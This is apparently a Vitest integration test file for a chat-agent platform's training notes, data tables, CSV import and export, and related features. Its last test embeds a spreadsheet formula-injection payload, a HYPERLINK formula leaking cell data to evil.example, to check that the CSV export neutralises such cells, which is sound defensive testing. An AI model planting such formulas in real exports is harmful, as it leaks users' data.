import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { client, eventually, startTestService, type TestService } from './helpers.ts';
import { newAgent, orgWithAgent, type Api } from './support/orgs.ts';
import { expectFieldError, expectProblem } from './support/problems.ts';
import { startAnswersSite, type AnswersSite } from '../bench/answers/site.ts';
import { insertConversation, recordEvaluation } from '../src/db/conversations.ts';

// Agent sub-resources (issue 14): training notes, data tables, tracking suggestions and
// integration recommendations, through the real API, crawl and public widget.

let svc: TestService;
let site: AnswersSite;

beforeAll(async () => {
  site = await startAnswersSite();
  svc = await startTestService({ ALLOW_PRIVATE_NETWORK_TARGETS: true, CRAWL_DELAY_MS: 0 });
});
afterAll(async () => {
  await svc?.stop();
  await site?.close();
});

const A = '/api/v1/rest/agents';
const notes = (agentId: string) => `${A}/${agentId}/training-notes`;
const tables = (agentId: string) => `${A}/${agentId}/data-tables`;
const MISSING = '0190a5c4-0000-7000-8000-000000000000';

/** One public conversation: the replies to each question in turn. */
async function converse(publicKey: string, questions: string[]): Promise<{ id: string; replies: string[] }> {
  const pub = client(svc.url);
  const base = `/api/v1/public/widgets/${publicKey}/conversations`;
  const started = await pub.post(base, { page_url: `${site.url}/` });
  expect(started.status, started.text).toBe(201);
  const replies: string[] = [];
  for (const text of questions) {
    const sent = await pub.post(`${base}/${started.body.conversation_id}/messages`, { text }, { 'x-visitor-token': started.body.visitor_token });
    expect(sent.status, sent.text).toBe(200);
    replies.push((sent.body.messages as { role: string; text: string }[]).filter((m) => m.role === 'agent').map((m) => m.text).join('\n'));
  }
  return { id: started.body.conversation_id, replies };
}

async function priceTable(api: Api, agentId: string) {
  const res = await api.post(tables(agentId), {
    name: 'Bikes', description: 'Our bikes and their prices',
    columns: [{ name: 'model', type: 'string' }, { name: 'price', type: 'number' }, { name: 'in_stock', type: 'boolean' }, { name: 'since', type: 'date' }],
  });
  expect(res.status, res.text).toBe(201);
  return res.body as { id: string; row_count: number };
}

/** A CSV of `n` bikes: "Trek FX 3" among made-up models. */
function bikesCsv(n: number): string {
  const lines = ['model,price,in_stock,since'];
  for (let i = 0; i < n - 1; i += 1) lines.push(`"Roadster ${i}, touring",${300 + (i % 700)},${i % 2 ? 'yes' : 'no'},2024-01-${String((i % 28) + 1).padStart(2, '0')}`);
  lines.push('Trek FX 3,899,true,2025-03-01');
  return `${lines.join('\n')}\n`;
}

describe('training notes', () => {
  it('CRUD with limits, and 404 for another organization\'s agent or note', async () => {
    const { api, agent } = await orgWithAgent(svc);
    const created = await api.post(notes(agent.id), { question: 'Do you price match?', answer: 'Yes, we match any local store\'s price.' });
    expect(created.status, created.text).toBe(201);
    expect(created.headers.get('location')).toBe(`${notes(agent.id)}/${created.body.id}`);
    expect(Object.keys(created.body)).toEqual(['id', 'question', 'answer', 'created_at', 'updated_at']);
    expect((await api.get(`${notes(agent.id)}/${created.body.id}`)).body).toEqual(created.body);
    const patched = await api.patch(`${notes(agent.id)}/${created.body.id}`, { answer: 'Yes, within 14 days of purchase.' });
    expect(patched.status).toBe(200);
    expect(patched.body).toMatchObject({ question: 'Do you price match?', answer: 'Yes, within 14 days of purchase.' });
    expect((await api.patch(`${notes(agent.id)}/${created.body.id}`, {})).body.answer).toBe('Yes, within 14 days of purchase.');
    const list = await api.get(notes(agent.id));
    expect(list.body).toMatchObject({ total: 1, limit: 50, offset: 0, data: [{ id: created.body.id }] });

    expectFieldError(await api.post(notes(agent.id), { question: 'q'.repeat(501), answer: 'a' }), 'question');
    expectFieldError(await api.post(notes(agent.id), { question: 'q', answer: 'a'.repeat(2001) }), 'answer');
    expectFieldError(await api.post(notes(agent.id), { question: 'q', answer: 'a', extra: 1 }), 'extra', 'unknown_field');

    const other = await orgWithAgent(svc);
    expectProblem(await other.api.get(notes(agent.id)), 404, 'not_found');
    expectProblem(await other.api.get(`${notes(other.agent.id)}/${created.body.id}`), 404, 'not_found');
    expectProblem(await other.api.delete(`${notes(agent.id)}/${created.body.id}`), 404, 'not_found');

    expect((await api.delete(`${notes(agent.id)}/${created.body.id}`)).status).toBe(204);
    expectProblem(await api.get(`${notes(agent.id)}/${created.body.id}`), 404, 'not_found');
    expectProblem(await api.get(notes(MISSING)), 404, 'not_found');
  });

  it('at most 500 notes per agent: the 501st is 409 invalid_state', async () => {
    const { api, agent } = await orgWithAgent(svc);
    for (let i = 0; i < 500; i += 1) expect((await api.post(notes(agent.id), { question: `Question ${i}?`, answer: `Answer ${i}.` })).status).toBe(201);
    expectProblem(await api.post(notes(agent.id), { question: 'One more?', answer: 'No.' }), 409, 'invalid_state');
    expect((await api.get(notes(agent.id))).body.total).toBe(500);
  });
});

describe('data tables', () => {
  it('CRUD, typed JSON rows, bad rows refused whole, limits and cross-organization 404', async () => {
    const { api, agent } = await orgWithAgent(svc);
    const table = await priceTable(api, agent.id);
    expect(table).toMatchObject({ name: 'Bikes', row_count: 0, columns: [{ name: 'model', type: 'string' }, { name: 'price', type: 'number' }, { name: 'in_stock', type: 'boolean' }, { name: 'since', type: 'date' }] });
    const rows = `${tables(agent.id)}/${table.id}/rows`;
    const added = await api.post(rows, { rows: [{ model: 'Trek FX 3', price: 899, in_stock: true, since: '2025-03-01' }, { model: 'Giant Escape', price: 649.5 }] });
    expect(added.status, added.text).toBe(201);
    expect(added.body).toEqual({ inserted: 2 });
    const listed = await api.get(rows);
    expect(listed.body.total).toBe(2);
    expect(listed.body.data.map((r: { data: unknown }) => r.data)).toEqual([
      { model: 'Trek FX 3', price: 899, in_stock: true, since: '2025-03-01' },
      { model: 'Giant Escape', price: 649.5, in_stock: null, since: null },
    ]);
    // A bad cell in the 3rd row: nothing of the request is inserted, the row and column are named.
    const bad = await api.post(rows, { rows: [{ model: 'A', price: 1 }, { model: 'B', price: 2 }, { model: 'C', price: 'cheap' }] });
    const problem = expectFieldError(bad, 'rows[2].price', 'invalid_cell');
    expect(problem.detail).toMatch(/row 3, column price/);
    expectFieldError(await api.post(rows, { rows: [{ colour: 'red' }] }), 'rows[0].colour', 'unknown_column');
    expectFieldError(await api.post(rows, { rows: [{ since: '2025-02-30' }] }), 'rows[0].since', 'invalid_cell');
    expect((await api.get(`${tables(agent.id)}/${table.id}`)).body.row_count).toBe(2);

    const renamed = await api.patch(`${tables(agent.id)}/${table.id}`, { name: 'Bike prices', description: null });
    expect(renamed.body).toMatchObject({ name: 'Bike prices', description: null, row_count: 2 });
    const rowId = listed.body.data[1].id;
    expect((await api.delete(`${rows}/${rowId}`)).status).toBe(204);
    expectProblem(await api.delete(`${rows}/${rowId}`), 404, 'not_found');
    expect((await api.get(`${tables(agent.id)}/${table.id}`)).body.row_count).toBe(1);

    expectFieldError(await api.post(tables(agent.id), { name: 'x', columns: [{ name: 'a', type: 'string' }, { name: 'a', type: 'number' }] }), 'columns[1].name', 'duplicate_name');
    expectFieldError(await api.post(tables(agent.id), { name: 'x', columns: [{ name: 'a', type: 'money' }] }), 'columns[0].type');
    expectFieldError(await api.post(tables(agent.id), { name: 'x', columns: Array.from({ length: 51 }, (_, i) => ({ name: `c${i}`, type: 'string' })) }), 'columns');

    const other = await orgWithAgent(svc);
    expectProblem(await other.api.get(`${tables(agent.id)}/${table.id}`), 404, 'not_found');
    expectProblem(await other.api.get(`${tables(other.agent.id)}/${table.id}/rows`), 404, 'not_found');
    expectProblem(await other.api.post(rows, { rows: [{ model: 'x' }] }), 404, 'not_found');

    for (let i = 1; i < 20; i += 1) expect((await api.post(tables(agent.id), { name: `t${i}`, columns: [{ name: 'a', type: 'string' }] })).status).toBe(201);
    expectProblem(await api.post(tables(agent.id), { name: 't21', columns: [{ name: 'a', type: 'string' }] }), 409, 'invalid_state');
    expect((await api.delete(`${tables(agent.id)}/${table.id}`)).status).toBe(204);
    expectProblem(await api.get(rows), 404, 'not_found');
  });

  it('a bad CSV is refused whole, naming the row and column', async () => {
    const { api, agent } = await orgWithAgent(svc);
    const table = await priceTable(api, agent.id);
    const rows = `${tables(agent.id)}/${table.id}/rows`;
    const csv = 'model,price,in_stock,since\nTrek FX 3,899,true,2025-03-01\nGiant Escape,about 650,false,2025-01-01\n';
    const bad = await api.post(rows, csv, { 'content-type': 'text/csv' });
    const problem = expectFieldError(bad, 'rows[1].price', 'invalid_cell');
    expect(problem.detail).toMatch(/row 2 \(CSV line 3\), column price: "about 650" is not a number/);
    expectFieldError(await api.post(rows, 'model,cost\nA,1\n', { 'content-type': 'text/csv' }), 'header.cost', 'unknown_column');
    expectFieldError(await api.post(rows, 'model,price,in_stock,since\n"unclosed,1,true,2025-01-01\n', { 'content-type': 'text/csv' }), 'body', 'invalid_csv');
    expectFieldError(await api.post(rows, 'model,price,in_stock,since\nA,1,true\n', { 'content-type': 'text/csv' }), 'body', 'invalid_csv');
    expect((await api.get(`${tables(agent.id)}/${table.id}`)).body.row_count).toBe(0);
    expectProblem(await api.post(rows, 'a;b', { 'content-type': 'text/plain' }), 415, 'unsupported_media_type');
  });

  it('a CSV header naming a column twice is refused with 400 duplicate_column and inserts nothing', async () => {
    const { api, agent } = await orgWithAgent(svc);
    const table = await priceTable(api, agent.id);
    const rows = `${tables(agent.id)}/${table.id}/rows`;
    // csv-parse would keep the second "price" cell under one key: the row would go in with 2, silently.
    const twice = await api.post(rows, 'model,price,in_stock,since,price\nTrek FX 3,899,true,2025-03-01,2\n', { 'content-type': 'text/csv' });
    const problem = expectFieldError(twice, 'header.price', 'duplicate_column');
    expect(problem.detail).toMatch(/price/);
    // A header alone, with a column twice, names the same fault rather than "no rows".
    expectFieldError(await api.post(rows, 'model,price,in_stock,since,model\n', { 'content-type': 'text/csv' }), 'header.model', 'duplicate_column');
    expect((await api.get(`${tables(agent.id)}/${table.id}`)).body.row_count).toBe(0);
    expect((await api.get(rows)).body.data).toEqual([]);
  });

  it('imports 10,000 CSV rows in one request, then answers a price question from a row', async () => {
    const { api, agent } = await orgWithAgent(svc, { name: 'Bike shop' });
    const table = await priceTable(api, agent.id);
    const rows = `${tables(agent.id)}/${table.id}/rows`;
    const res = await api.post(rows, bikesCsv(10_000), { 'content-type': 'text/csv' });
    expect(res.status, res.text).toBe(201);
    expect(res.body).toEqual({ inserted: 10_000 });
    expect((await api.get(`${tables(agent.id)}/${table.id}`)).body.row_count).toBe(10_000);
    expectProblem(await api.post(rows, { rows: [{ model: 'One too many' }] }), 409, 'invalid_state');
    const { replies } = await converse(agent.public_key, ['How much does the Trek FX 3 cost?', 'How much is a Trek?']);
    expect(replies[0]).toBe('The Trek FX 3 costs $899 (in stock).');
    // Names no row (every "Trek" is not one row): falls through to the other sources.
    expect(replies[1]).not.toMatch(/costs \$/);
  });
});

describe('the runtime answers from notes and rows', () => {
  it('a training note answers a paraphrase ahead of the site; a table row answers its price; the site the rest', async () => {
    const { api } = await orgWithAgent(svc);
    const agent = await newAgent(api, { name: 'Cedar & Pine', site_url: `${site.url}/` });
    await eventually(async () => (await api.get(`${A}/${agent.id}`)).body.status === 'active', 120_000, 250);
    // The site says members get 10% off in the shop; the business corrects it.
    expect((await api.post(notes(agent.id), { question: 'What discount do members get in the pro shop?', answer: 'Since March, members get 15% off everything in the pro shop.' })).status).toBe(201);
    const table = (await api.post(tables(agent.id), { name: 'Shoes', columns: [{ name: 'shoe', type: 'string' }, { name: 'price', type: 'number' }, { name: 'in_stock', type: 'boolean' }] })).body;
    expect((await api.post(`${tables(agent.id)}/${table.id}/rows`, 'shoe,price,in_stock\nLa Sportiva Tarantulace,89,true\nScarpa Instinct VS,185,false\n', { 'content-type': 'text/csv' })).status).toBe(201);
    const { id, replies } = await converse(agent.public_key, [
      'Do members get money off at the shop?',
      'How much are the Scarpa Instinct VS?',
      'How much is a day pass?',
    ]);
    expect(replies[0]).toBe('Since March, members get 15% off everything in the pro shop.');
    expect(replies[1]).toBe('The Scarpa Instinct VS costs $185 (not in stock).');
    expect(replies[2]).toMatch(/\$22[\s\S]*Source: http:\/\/127\.0\.0\.1:\d+\/pricing/);
    const detail = await api.get(`/api/v1/rest/conversations/${id}`);
    expect(detail.body.tool_calls.map((c: { name: string }) => c.name)).toEqual(['search_training_notes', 'lookup_data_tables', 'search_knowledge']);
  });
});

describe('portability', () => {
  it('export, import and clone carry notes and tables with their rows; promote carries notes', async () => {
    const { api, agent } = await orgWithAgent(svc);
    await api.post(notes(agent.id), { question: 'Do you deliver?', answer: 'Yes, within 10 miles.' });
    const table = await priceTable(api, agent.id);
    await api.post(`${tables(agent.id)}/${table.id}/rows`, { rows: [{ model: 'Trek FX 3', price: 899, in_stock: true }] });

    const exported = await api.get(`${A}/${agent.id}/export`);
    expect(exported.status).toBe(200);
    expect(exported.body.training_notes).toEqual([{ question: 'Do you deliver?', answer: 'Yes, within 10 miles.' }]);
    expect(exported.body.data_tables).toEqual([{
      name: 'Bikes', description: 'Our bikes and their prices',
      columns: [{ name: 'model', type: 'string' }, { name: 'price', type: 'number' }, { name: 'in_stock', type: 'boolean' }, { name: 'since', type: 'date' }],
      rows: [{ model: 'Trek FX 3', price: 899, in_stock: true, since: null }],
    }]);

    const other = await orgWithAgent(svc);
    const imported = await other.api.post(`${A}/import`, exported.body);
    expect(imported.status, imported.text).toBe(201);
    for (const [who, id] of [[other.api, imported.body.id], [api, (await api.post(`${A}/${agent.id}/clone`, {})).body.id]] as const) {
      expect((await who.get(notes(id))).body.data).toMatchObject([{ question: 'Do you deliver?', answer: 'Yes, within 10 miles.' }]);
      const copied = (await who.get(tables(id))).body.data;
      expect(copied).toMatchObject([{ name: 'Bikes', row_count: 1 }]);
      expect((await who.get(`${tables(id)}/${copied[0].id}/rows`)).body.data.map((r: { data: unknown }) => r.data)).toEqual([{ model: 'Trek FX 3', price: 899, in_stock: true, since: null }]);
    }
    // A manifest row that does not fit its columns: the import is refused whole.
    const broken = structuredClone(exported.body);
    broken.data_tables[0].rows[0].price = 'a lot';
    expectFieldError(await other.api.post(`${A}/import`, broken), 'data_tables[0].rows[0].price', 'invalid_cell');

    const sibling = await newAgent(api, 'Sibling');
    await api.post(notes(sibling.id), { question: 'Old?', answer: 'Old.' });
    expect((await api.post(`${A}/${agent.id}/promote`, { target_agent_id: sibling.id })).status).toBe(200);
    expect((await api.get(notes(sibling.id))).body.data).toMatchObject([{ question: 'Do you deliver?' }]);
  });

  it('an agent\'s delete removes its notes and tables', async () => {
    const { api, agent } = await orgWithAgent(svc);
    await api.post(notes(agent.id), { question: 'Q?', answer: 'A.' });
    const table = await priceTable(api, agent.id);
    await api.post(`${tables(agent.id)}/${table.id}/rows`, { rows: [{ model: 'x' }] });
    expect((await api.delete(`${A}/${agent.id}`)).status).toBe(204);
    const [left] = await svc.sql<{ n: number }[]>`select (select count(*) from training_notes where agent_id = ${agent.id})::int
      + (select count(*) from data_tables where agent_id = ${agent.id})::int + (select count(*) from data_table_rows where agent_id = ${agent.id})::int as n`;
    expect(left!.n).toBe(0);
    expectProblem(await api.get(notes(agent.id)), 404, 'not_found');
  });
});

/** Evaluated conversations of an agent, as the evaluation records them. */
async function seed(orgId: string, agentId: string, evaluations: { intent: string; outcome?: string; extracted_data?: Record<string, unknown> }[]): Promise<string[]> {
  const ids: string[] = [];
  for (const e of evaluations) {
    const c = await insertConversation(svc.sql, { orgId, agentId, surface: 'web', pageUrl: null, visitorId: null, contactId: null, language: 'en', tokenHash: null });
    await recordEvaluation(svc.sql, c.id, { extracted_data: e.extracted_data ?? {}, criteria_results: [], intent: e.intent, outcome: e.outcome ?? 'resolved' });
    ids.push(c.id);
  }
  return ids;
}

describe('tracking suggestions', () => {
  it('recurring intents and extracted fields no rule covers, with their conversations; accept adds the rule', async () => {
    const { api, agent, orgId } = await orgWithAgent(svc);
    const url = `${A}/${agent.id}/tracking-suggestions`;
    expect((await api.get(url)).body).toEqual({ data: [] });
    const pricing = await seed(orgId, agent.id, Array.from({ length: 4 }, () => ({ intent: 'pricing_question', extracted_data: { email: 'a@b.example' } })));
    await seed(orgId, agent.id, [{ intent: 'refund_request' }, { intent: 'refund_request' }, { intent: 'other' }, { intent: 'other' }, { intent: 'other' }]);
    await api.patch(`${A}/${agent.id}`, { tracking_rules: [{ name: 'email_given', condition: 'The visitor left an email address' }] });
    const res = await api.get(url);
    expect(res.status).toBe(200);
    // email is covered by the rule that mentions it; refund_request recurs only twice; "other" is no intent to track.
    expect(res.body.data).toEqual([{
      name: 'pricing_question', condition: "The visitor's intent is pricing question (pricing_question)",
      reason: 'intent pricing_question in 4 of the last 500 evaluated conversations, and no tracking rule covers it',
      conversation_ids: [...pricing].reverse(),
    }]);
    const accepted = await api.post(`${url}/accept`, { name: 'pricing_question' });
    expect(accepted.status, accepted.text).toBe(200);
    expect(accepted.body.tracking_rules).toEqual([
      { name: 'email_given', condition: 'The visitor left an email address', enabled: true },
      { name: 'pricing_question', condition: "The visitor's intent is pricing question (pricing_question)", enabled: true },
    ]);
    expect((await api.get(url)).body).toEqual({ data: [] });
    expectProblem(await api.post(`${url}/accept`, { name: 'pricing_question' }), 404, 'not_found');
    const other = await orgWithAgent(svc);
    expectProblem(await other.api.get(url), 404, 'not_found');
  });
});

describe('integration recommendations', () => {
  it('each rule on seeded data; an empty list for a new agent', async () => {
    const { api, agent, orgId } = await orgWithAgent(svc);
    const url = `${A}/${agent.id}/integration-recommendations`;
    expect((await api.get(url)).body).toEqual({ data: [] });
    await seed(orgId, agent.id, [
      { intent: 'book_appointment' }, { intent: 'booking_request' }, { intent: 'book_demo' },
      { intent: 'support_request', outcome: 'handoff_requested', extracted_data: { phone: '+14155550123' } },
      { intent: 'support_request', outcome: 'handoff_requested', extracted_data: { email: 'x@y.example' } },
      { intent: 'support_request', outcome: 'handoff_requested', extracted_data: { contact: 'z@y.example' } },
    ]);
    const res = await api.get(url);
    expect(res.body.data.map((r: { integration: string; evidence_count: number }) => [r.integration, r.evidence_count])).toEqual([
      ['calendar', 3], ['phone_transfer', 3], ['crm_webhook', 3],
    ]);
    for (const r of res.body.data) expect(r.reason).toMatch(/rule: at least 3/);
    // A transfer rule and a subscribed webhook answer the last two.
    await api.post(`${A}/${agent.id}/transfer-rules`, { name: 'Desk', condition: 'asks for a person', destination_phone: '+14155550123' });
    const hook = await api.post('/api/v1/rest/webhooks', { url: 'https://hooks.example.com/x', events: ['conversation.ended'] });
    expect(hook.status, hook.text).toBe(201);
    expect((await api.get(url)).body.data.map((r: { integration: string }) => r.integration)).toEqual(['calendar']);
    const other = await orgWithAgent(svc);
    expectProblem(await other.api.get(url), 404, 'not_found');
  });
});

describe('data tables as CSV (issue 40)', () => {
  it('a NUL in a CSV cell is 400 invalid_characters naming its line, and inserts nothing (D20)', async () => {
    const { api, agent } = await orgWithAgent(svc);
    const table = await priceTable(api, agent.id);
    const rows = `${tables(agent.id)}/${table.id}/rows`;
    const problem = expectFieldError(await api.post(rows, 'model,price,in_stock,since\nok,1,true,2024-01-01\na\u0000b,1,true,2024-01-01\n', { 'content-type': 'text/csv' }), 'body', 'invalid_characters');
    expect(problem.detail).toMatch(/line 3/);
    expect((await api.get(`${tables(agent.id)}/${table.id}`)).body.row_count).toBe(0);
  });

  it('GET rows.csv streams every row; a cell a spreadsheet would run as a formula leaves prefixed with \', and a round trip adds no second prefix (I9)', async () => {
    const { api, agent } = await orgWithAgent(svc);
    const table = await priceTable(api, agent.id);
    const rows = `${tables(agent.id)}/${table.id}/rows`;
    const cells = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '+SUM(1+1)', '-2+3', '@SUM(A1)', '\tTab first', 'Trek "FX", 3', "'=already quoted", 'Plain'];
    const added = await api.post(rows, { rows: cells.map((model, i) => ({ model, price: i === 0 ? -5 : i + 0.5, in_stock: i % 2 === 0, since: i === 1 ? null : '2024-02-29' })) });
    expect(added.status, added.text).toBe(201);
    const exported = await api.get(`${rows}.csv`);
    expect(exported.status, exported.text).toBe(200);
    expect(exported.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(exported.headers.get('content-disposition')).toBe('attachment; filename="Bikes.csv"');
    expect(exported.text.split('\r\n')).toEqual([
      'model,price,in_stock,since',
      '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",-5,true,2024-02-29',
      "'+SUM(1+1),1.5,false,",
      "'-2+3,2.5,true,2024-02-29",
      "'@SUM(A1),3.5,false,2024-02-29",
      "'\tTab first,4.5,true,2024-02-29",
      '"Trek ""FX"", 3",5.5,false,2024-02-29',
      "'=already quoted,6.5,true,2024-02-29",
      'Plain,7.5,false,2024-02-29',
      '',
    ]);
    // Imported back into a table of the same columns: plain values as they were, the formulas once prefixed, and the next export the same.
    const copy = await priceTable(api, agent.id);
    const copyRows = `${tables(agent.id)}/${copy.id}/rows`;
    const imported = await api.post(copyRows, exported.text, { 'content-type': 'text/csv' });
    expect(imported.status, imported.text).toBe(201);
    const models = (await api.get(copyRows)).body.data.map((r: any) => r.data.model);
    expect(models).toEqual(["'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")", "'+SUM(1+1)", "'-2+3", "'@SUM(A1)", "'\tTab first", 'Trek "FX", 3', "'=already quoted", 'Plain']);
    expect((await api.get(copyRows)).body.data[0].data.price).toBe(-5);
    expect((await api.get(`${copyRows}.csv`)).text).toBe(exported.text);
    // An empty table is its header; another organization's is 404; the API reference lists the download as text/csv.
    const empty = await api.post(tables(agent.id), { name: 'Empty one', columns: [{ name: 'a', type: 'string' }] });
    expect((await api.get(`${tables(agent.id)}/${empty.body.id}/rows.csv`)).text).toBe('a\r\n');
    const other = await orgWithAgent(svc);
    expectProblem(await other.api.get(`${rows}.csv`), 404, 'not_found');
    const openapi = (await client(svc.url).get('/api/v1/openapi.json')).body;
    const op = openapi.paths['/api/v1/rest/agents/{id}/data-tables/{tableId}/rows.csv'].get;
    expect(op.operationId).toBe('export_data_rows_csv');
    expect(Object.keys(op.responses[200].content)).toEqual(['text/csv']);
  });
});
